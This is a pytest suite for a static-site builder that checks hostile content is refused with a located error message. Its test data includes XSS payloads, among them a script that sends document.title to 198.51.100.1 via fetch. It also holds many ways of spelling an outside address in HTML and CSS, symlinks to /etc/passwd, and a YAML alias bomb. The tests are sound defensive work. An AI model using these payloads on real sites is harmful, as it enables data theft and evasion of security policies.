"""Hostile and careless content cannot break the book's promises.

Nothing in a text runs or loads from outside; no spelling of an outside address gets past
the output check; no file outside the book is read; and every such input ends in a message
that names the file and line, never in a traceback or a hang.
"""

import json
import os
import subprocess
import time
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from builder.build import build, load_book
from builder.errors import ContentError
from conftest import MINIMAL, copy_site, run_briefing, tree, write_files


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def problems_of(site: Path) -> list[str]:
    with pytest.raises(ContentError) as exc:
        load_book(site)
    return [p.format() for p in exc.value.problems]


# --- Markdown: nothing runs, nothing loads ------------------------------------------------------

@pytest.mark.parametrize("press_line, expected", [
    ("\"<script>fetch('http://198.51.100.1/?'+document.title)</script>\"",
     "29:14: press_line: raw HTML <script> is not allowed in Markdown text"),
    ('"<img src=x onerror=alert(1)>"', "29:14: press_line: raw HTML <img> is not allowed"),
    ("'<iframe src=\"javascript:alert(1)\"></iframe>'", "29:14: press_line: raw HTML <iframe> is not allowed"),
    ('"[x](javascript:alert(1))"', "29:18: press_line: link 'javascript:alert(1)' uses 'javascript:'"),
    ('"[x](JaVa&#9;ScRiPt:alert(1))"', "press_line: link 'JaVa&#9;ScRiPt:alert(1)' uses 'javascript:'"),
    ('"![map](https://tiles.example.org/a.png)"', "29:21: press_line: image 'https://tiles.example.org/a.png' "
                                                  "would be loaded from outside the book"),
    ('"![map](//tiles.example.org/a.png)"', "press_line: image '//tiles.example.org/a.png' would be loaded"),
    ('"[home](/index.html)"', "press_line: link '/index.html' starts at the server's root"),
    ('"[up](../../etc/passwd)"', "press_line: link '../../etc/passwd' leads outside the book"),
    ('|\n  Press.\n  {: onmouseover="alert(1)" }', "31:6: press_line: attribute 'onmouseover' is not allowed on <p>"),
    ('"[x](https://example.org){: style=\\"background:url(http://h/x)\\"}"',
     "press_line: attribute 'style' is not allowed on <a>"),
    ('"Figure: {fact:cars-exported"', "29:22: press_line: '{fact:cars-exported' is not a complete reference"),
])
def test_markdown_that_would_run_or_load_something_is_refused_where_written(minimal_site: Path, press_line: str,
                                                                            expected: str):
    edit(minimal_site / "content/issues/trade.yaml", "press_line: Frank talks on trade.", f"press_line: {press_line}")
    [problem] = problems_of(minimal_site)
    assert problem.startswith("content/issues/trade.yaml:") and expected in problem


def test_what_markdown_may_contain_reaches_the_page_and_nothing_else(minimal_site: Path, tmp_path: Path):
    edit(minimal_site / "site.yaml", "sectors:", "markdown: {allow_html: [sup, abbr]}\nsectors:")
    edit(minimal_site / "content/issues/trade.yaml", "press_line: Frank talks on trade.",
         'press_line: "E = mc<sup>2</sup>, <abbr title=\\"Liquefied natural gas\\">LNG</abbr>; see '
         '[the defence paper](issues/defence.html), [the source](https://example.org/s) and '
         '[mail](mailto:desk@example.org)."')
    build(minimal_site, tmp_path / "out")
    quote = BeautifulSoup((tmp_path / "out/issues/trade.html").read_text(), "html.parser").select_one(
        ".press-line blockquote")
    assert quote.find("sup").get_text() == "2" and quote.find("abbr")["title"] == "Liquefied natural gas"
    links = [a["href"] for a in quote.find_all("a")]
    # a path inside the book is written from its root and works from the page it appears on
    assert links == ["../issues/defence.html", "https://example.org/s", "mailto:desk@example.org"]


def test_an_allowed_tag_still_may_not_carry_an_event_handler(minimal_site: Path):
    edit(minimal_site / "site.yaml", "sectors:", "markdown: {allow_html: [sup]}\nsectors:")
    edit(minimal_site / "content/issues/trade.yaml", "press_line: Frank talks on trade.",
         'press_line: "x<sup onclick=\\"alert(1)\\">2</sup>"')
    [problem] = problems_of(minimal_site)
    assert "press_line: attribute 'onclick' is not allowed on <sup>" in problem


def test_a_tag_a_book_may_not_allow_is_refused_in_site_yaml(minimal_site: Path):
    edit(minimal_site / "site.yaml", "sectors:", "markdown: {allow_html: [script]}\nsectors:")
    [problem] = problems_of(minimal_site)
    assert problem.startswith("site.yaml:") and "unknown tag 'script'; use one of abbr, b, i" in problem


def test_raw_html_in_a_page_is_refused_at_its_line(minimal_site: Path):
    write_files(minimal_site, {"content/pages/notes.md": "---\ntitle: Notes\n---\n\nText.\n\n<div>\n<script>x</script>\n</div>\n"})
    assert problems_of(minimal_site)[0].startswith("content/pages/notes.md:7:1: raw HTML <div> is not allowed")


def test_a_spec_file_loses_the_options_that_would_load_something(minimal_site: Path, tmp_path: Path):
    spec = json.loads((minimal_site / "charts/budget.json").read_text())
    spec["usermeta"] = {"embedOptions": {"config": "http://198.51.100.1/config.json", "loader": {"baseURL": "http://x/"}}}
    write_files(minimal_site, {"charts/budget.json": json.dumps(spec)})
    build(minimal_site, tmp_path / "out")
    page = (tmp_path / "out/issues/defence.html").read_text()
    assert "usermeta" not in page and "198.51.100.1" not in page


# --- the output check: every spelling of an outside address -------------------------------------

OUTSIDE_FORMS = {
    "base": '<base href="http://198.51.100.1/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=http://198.51.100.1/">',
    "preload-imagesrcset": '<link rel="preload" as="image" imagesrcset="http://198.51.100.1/a.png 1x">',
    "srcset": '<img alt="" srcset="http://198.51.100.1/b.png 1x, a.png 2x">',
    "iframe-srcdoc": '<iframe title="x" srcdoc="&lt;img src=&quot;http://198.51.100.1/x.png&quot;&gt;"></iframe>',
    "svg-feimage": '<svg><filter id="f"><feImage href="http://198.51.100.1/x.png"/></filter></svg>',
    "unc-path": '<img alt="" src="\\\\198.51.100.1\\share\\x.png">',
    "entity-split-scheme": '<img alt="" src="ht&#9;tp://198.51.100.1/x.png">',
    "css-escape": '<p style="background: u\\72l(http://198.51.100.1/x.png)">x</p>',
    "image-set": "<style>p { background-image: image-set('http://198.51.100.1/x.png' 1x); }</style>",
    "style-import": '<style>@import "http://198.51.100.1/x.css";</style>',
    "svg-use": '<svg><use href="http://198.51.100.1/s.svg#a"/></svg>',
    "template-contents": '<template><img alt="" src="http://198.51.100.1/t.png"></template>',
}


@pytest.mark.parametrize("form", sorted(OUTSIDE_FORMS))
def test_every_spelling_of_an_outside_address_in_a_template_fails_the_build(minimal_site: Path,
                                                                            tmp_path: Path, form: str):
    write_files(minimal_site, {"templates/person.html": (
        '{% extends "base.html" %}\n{% block content %}\n' + OUTSIDE_FORMS[form] + "\n{% endblock %}\n")})
    with pytest.raises(ContentError) as exc:
        build(minimal_site, tmp_path / "out")
    [problem] = exc.value.problems
    assert (problem.path, problem.line) == ("templates/person.html", 3), problem.format()
    assert "would load" in problem.message and "198.51.100.1" in problem.message
    assert not (tmp_path / "out").exists()


def test_an_escaped_address_in_the_books_stylesheet_fails_the_build(minimal_site: Path, tmp_path: Path):
    write_files(minimal_site, {"templates/assets/style.css": "body { color: navy; }\n"
                                                             ".x { background: u\\72l(http://198.51.100.1/x.png); }\n"})
    with pytest.raises(ContentError) as exc:
        build(minimal_site, tmp_path / "out")
    assert [p.format() for p in exc.value.problems] == [
        "templates/assets/style.css:2:24: assets/style.css would load 'http://198.51.100.1/x.png' from outside "
        "the site; the book must work offline (copy the file into the book and link it relatively)"]


def test_every_page_carries_the_policy_and_a_base_template_without_it_fails(minimal_site: Path, tmp_path: Path):
    result = build(minimal_site, tmp_path / "out")
    for rel, data in result.files.items():
        if rel.endswith(".html"):
            head = BeautifulSoup(data, "html.parser").head
            policy = head.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
            assert "default-src 'none'" in policy and "'unsafe-eval'" not in policy, rel
    base = (Path(__file__).parent.parent / "templates/base.html").read_text()
    write_files(minimal_site, {"templates/base.html": "\n".join(
        line for line in base.splitlines() if "Content-Security-Policy" not in line)})
    with pytest.raises(ContentError) as exc:
        build(minimal_site, tmp_path / "out2")
    assert exc.value.problems[0].format().startswith(
        "templates/base.html: facts.html (and 16 more) has no Content-Security-Policy")


# --- files outside the book are never read ------------------------------------------------------

def fails_naming(site: Path, *names: str, args: tuple[str, ...] = ()) -> str:
    result = run_briefing("build", *args, cwd=site)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    for name in names:
        assert name in result.stderr
    return result.stderr


def test_links_to_files_outside_the_book_are_refused_and_never_read(tmp_path: Path):
    site = copy_site(MINIMAL, tmp_path / "site")
    secret = tmp_path / "secret.yaml"
    secret.write_text("id: secret\nname: SECRET-CONTENT-7731\n")
    os.symlink(secret, site / "content/people/secret.yaml")
    os.symlink("/etc/passwd", site / "content/people/passwd.yaml")
    stderr = fails_naming(site, "content/people/secret.yaml: is a link to", "outside the book",
                          "content/people/passwd.yaml: is a link to /etc/passwd")
    assert "SECRET-CONTENT-7731" not in stderr and "root:" not in stderr
    assert not (site / "_site").exists()


def test_a_linked_asset_or_template_outside_the_book_is_refused(tmp_path: Path):
    site = copy_site(MINIMAL, tmp_path / "site")
    (tmp_path / "secret.txt").write_text("SECRET-ASSET-5521")
    (site / "templates/assets").mkdir(parents=True)
    os.symlink(tmp_path / "secret.txt", site / "templates/assets/shadow.txt")
    stderr = fails_naming(site, "templates/assets/shadow.txt: is a link to")
    assert "SECRET-ASSET-5521" not in stderr
    (site / "templates/assets/shadow.txt").unlink()
    os.symlink("/etc/passwd", site / "templates/person.html")
    fails_naming(site, "templates/person.html: is a link to /etc/passwd")


def test_a_content_folder_linked_outside_the_book_is_refused(tmp_path: Path):
    site = copy_site(MINIMAL, tmp_path / "site")
    for path in (site / "content/pages").iterdir():
        path.unlink()
    (site / "content/pages").rmdir()
    os.symlink("/etc", site / "content/pages")
    fails_naming(site, "content/pages: is a link to /etc, outside the book")


def test_pipes_devices_and_folders_named_like_files_are_refused_without_hanging(tmp_path: Path):
    site = copy_site(MINIMAL, tmp_path / "site")
    os.mkfifo(site / "content/issues/pipe.yaml")
    (site / "content/issues/folder.yaml").mkdir()
    os.symlink("/dev/zero", site / "content/people/zero.yaml")
    started = time.monotonic()
    fails_naming(site, "content/issues/pipe.yaml: is not a regular file",
                 "content/issues/folder.yaml: is a folder, not a file",
                 "content/people/zero.yaml: is a link to /dev/zero")
    assert time.monotonic() - started < 30


def test_build_rev_refuses_a_committed_link_outside_the_book(tmp_path: Path):
    site = copy_site(MINIMAL, tmp_path / "site")
    os.symlink("/etc/passwd", site / "content/people/passwd.yaml")
    env = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@b"}
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "x"]):
        subprocess.run(["git", *args], cwd=site, env=env, check=True)
    (site / "content/people/passwd.yaml").unlink()
    stderr = fails_naming(site, "HEAD:content/people/passwd.yaml: is a link to /etc/passwd",
                          args=("--rev", "HEAD", "--out", str(tmp_path / "old")))
    assert "root:" not in stderr


# --- bounded resources -------------------------------------------------------------------------

def test_an_alias_bomb_is_refused_quickly(minimal_site: Path):
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(8))
    write_files(minimal_site, {"content/people/bomb.yaml": bomb})
    started = time.monotonic()
    problems = problems_of(minimal_site)
    assert time.monotonic() - started < 10
    assert problems[0].startswith("content/people/bomb.yaml:1:1: YAML expands to more values than a book file may hold")


def test_yaml_nested_too_deep_is_refused(minimal_site: Path):
    write_files(minimal_site, {"content/people/deep.yaml": "a: " + "[" * 5000 + "]" * 5000 + "\n"})
    assert "content/people/deep.yaml:1:1: YAML nested too deeply to read" in problems_of(minimal_site)[0]


def test_a_file_over_the_size_limit_is_refused(minimal_site: Path):
    edit(minimal_site / "site.yaml", "sectors:", "limits: {file_size_mb: 0.0005}\nsectors:")
    problems = problems_of(minimal_site)
    size = (minimal_site / "content/data/investments.csv").stat().st_size / 1024
    assert f"content/data/investments.csv: is {size:.1f} KB, more than the 0.5 KB a file of the book may be " \
           "(limits.file_size_mb in site.yaml)" in problems


def test_a_spec_nested_too_deep_or_with_broken_data_is_located(minimal_site: Path):
    write_files(minimal_site, {"charts/budget.json": '{"mark": "bar", "data": {"values": ' + "[" * 100000 + "]" * 100000 + "}}"})
    [problem] = problems_of(minimal_site)
    assert problem == "charts/budget.json:1:1: is nested too deeply to read as JSON"
    write_files(minimal_site, {"charts/budget.json": '{"mark": "bar", "data": {"url": "data.json"}}',
                               "charts/data.json": '[{"a": 1},]'})
    [problem] = problems_of(minimal_site)
    assert problem.startswith("charts/data.json:1:11: is not valid JSON: Expecting value (JSON allows no comma")
    write_files(minimal_site, {"charts/budget.json": '{"mark": "bar", "data": {"url": "budget.csv", "format": "csv"}}'})
    [problem] = problems_of(minimal_site)
    assert problem == 'charts/budget.json:1:57: data.format: must be an object such as {"type": "csv"}, not "csv"'


def test_a_vega_expression_that_does_not_parse_is_located_in_the_spec(minimal_site: Path, tmp_path: Path):
    write_files(minimal_site, {"charts/budget.json": json.dumps({
        "data": {"values": [{"a": 1}]}, "mark": "bar", "transform": [{"calculate": "datum.a *", "as": "b"}],
        "encoding": {"x": {"field": "b", "type": "quantitative"}}})})
    with pytest.raises(ContentError) as exc:
        build(minimal_site, tmp_path / "out")
    [problem] = exc.value.problems
    assert (problem.path, problem.field) == ("charts/budget.json", "transform[0].calculate")
    assert problem.message == "the expression 'datum.a *' cannot be read: Unexpected end of input"


# --- no traceback on any content ----------------------------------------------------------------

@pytest.mark.parametrize("path, old, new, expected", [
    ("content/data/investments.csv", "10000,USD", "inf,USD", "investments.csv:2:78: amount: expected a finite number, got 'inf'"),
    ("content/data/investments.csv", "10000,USD", "1e400,USD", "investments.csv:2:78: amount: expected a finite number"),
    ("content/facts.yaml", "value: 8.7", "value: .nan", "facts.yaml:14:12: facts[1].value: expected a finite number"),
    ("content/facts.yaml", "value: 8.7", "value: .inf", "facts.yaml:14:12: facts[1].value: expected a finite number"),
    ("content/facts.yaml", "value: 8.7", "value: " + "9" * 5000, "facts.yaml:14:12: facts[1].value: cannot read "),
    ("content/schedule.yaml", "date: 2025-03-01", "date: !!timestamp 2025-02-30",
     "schedule.yaml:5:11: items[0].date: cannot read '2025-02-30' as timestamp: day is out of range for month"),
    ("content/schedule.yaml", "date: 2025-03-01", "date: 2025-02-30",
     "schedule.yaml:5:11: items[0].date: no such date '2025-02-30': the day is out of range"),
    ("content/facts.yaml", "value: 8.7", "value: !!int abc", "facts.yaml:14:12: facts[1].value: cannot read 'abc' as int"),
    ("content/facts.yaml", "value: 8.7", "value: !!float abc", "facts.yaml:14:12: facts[1].value: cannot read 'abc' as float"),
    ("content/pages/notes.md", "---\ntitle: Reading notes\n", "---\r\ntitle: Reading notes\r\n", None),
    ("content/people/carol.yaml", "name: Carol Example", 'name: "Carol :smile: Example {x"', None),
])
def test_content_that_once_gave_a_traceback_gives_a_located_message(tmp_path: Path, path: str, old: str, new: str,
                                                                    expected: str):
    site = copy_site(MINIMAL, tmp_path / "site")
    edit(site / path, old, new)
    result = run_briefing("build", cwd=site)
    assert "Traceback" not in result.stderr, result.stderr
    if expected is None:  # read correctly now: CRLF front matter, emoji codes kept as written
        assert result.returncode == 0, result.stderr
        if path.endswith("carol.yaml"):
            assert "Carol :smile: Example {x" in (site / "_site/people/carol.html").read_text()
        return
    assert result.returncode == 1
    lines = [line for line in result.stderr.splitlines() if "nothing was written" not in line]
    assert len(lines) == 1 and expected in lines[0], result.stderr


def test_emoji_codes_in_a_message_are_printed_as_written(minimal_site: Path):
    edit(minimal_site / "content/issues/trade.yaml", "priority: high", "priority: ':fire:'")
    result = run_briefing("check", cwd=minimal_site)
    assert "got ':fire:'" in result.stderr and "🔥" not in result.stderr


# --- the output folder --------------------------------------------------------------------------

def test_out_replaces_only_a_folder_briefing_wrote(tmp_path: Path):
    site = copy_site(MINIMAL, tmp_path / "site")
    lookalike = tmp_path / "work"
    write_files(lookalike, {"manifest.json": '{"files": {}}', "thesis.docx": "years of work"})
    result = run_briefing("build", "--out", str(lookalike), cwd=site)
    assert result.returncode == 1 and "its manifest.json was not written by briefing" in result.stderr
    assert tree(lookalike) == {"manifest.json": b'{"files": {}}', "thesis.docx": b"years of work"}

    out = tmp_path / "out"
    assert run_briefing("build", "--out", str(out), cwd=site).returncode == 0
    (out / "notes-for-me.txt").write_text("mine")
    before = tree(out)
    result = run_briefing("build", "--out", str(out), cwd=site)
    assert result.returncode == 1 and "notes-for-me.txt (not written by briefing)" in result.stderr
    assert tree(out) == before
    (out / "notes-for-me.txt").unlink()
    (out / "index.html").write_text("edited by hand")
    result = run_briefing("build", "--out", str(out), cwd=site)
    assert result.returncode == 1 and "index.html (changed since)" in result.stderr
    (out / "index.html").unlink()  # a file removed from the last build loses nothing of anyone's
    assert run_briefing("build", "--out", str(out), cwd=site).returncode == 0
    assert (out / "index.html").is_file()


def test_a_running_build_sees_a_file_of_its_output_edited_by_hand_even_with_its_size_and_time(tmp_path: Path):
    """`serve --out`, `build --watch` and the resident build process remember what they wrote, so as not
    to hash the whole output before each build; a file edited since is still refused, even when the
    edit keeps its size and sets its time back."""
    from builder.build import build
    from builder.cache import BuildCache
    from builder.errors import BriefingError

    site = copy_site(MINIMAL, tmp_path / "site")
    out = tmp_path / "out"
    running = BuildCache()
    build(site, out, cache=running)
    build(site, out, cache=running)  # (what it wrote is taken as it stands)
    page = out / "index.html"
    kept = page.stat()
    text = page.read_bytes()
    page.write_bytes(text.replace(b"<html", b"<HTML", 1))
    os.utime(page, ns=(kept.st_atime_ns, kept.st_mtime_ns))
    assert page.stat().st_size == kept.st_size and page.stat().st_mtime_ns == kept.st_mtime_ns
    with pytest.raises(BriefingError, match=r"index\.html \(changed since\)"):
        build(site, out, cache=running)
    assert page.read_bytes() != text  # left as the writer left it


@pytest.mark.parametrize("snippet", ["<script>fetch('http://198.51.100.1/?' + document.title)</script>",
                                     '<p onmouseover="fetch(\'http://198.51.100.1/\')">x</p>'])
def test_a_script_written_into_a_template_is_reported_not_trusted(minimal_site: Path, tmp_path: Path, snippet: str):
    write_files(minimal_site, {"templates/person.html": (
        '{% extends "base.html" %}\n{% block content %}\n' + snippet + "\n{% endblock %}\n")})
    with pytest.raises(ContentError) as exc:
        build(minimal_site, tmp_path / "out")
    [problem] = exc.value.problems
    assert (problem.path, problem.line) == ("templates/person.html", 3)
    assert "which the book's Content-Security-Policy does not let run" in problem.message
